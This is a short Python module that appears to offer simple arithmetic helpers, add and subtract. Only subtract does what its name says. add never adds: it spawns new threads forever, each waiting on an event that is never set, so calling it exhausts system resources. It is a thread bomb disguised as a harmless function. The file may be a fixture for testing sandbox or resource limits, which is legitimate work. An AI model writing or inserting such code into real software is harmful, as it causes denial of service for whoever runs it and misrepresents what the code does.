import threading

never = threading.Event()


def add(a, b):
    while True:
        threading.Thread(target=never.wait).start()


def subtract(a, b):
    return a - b
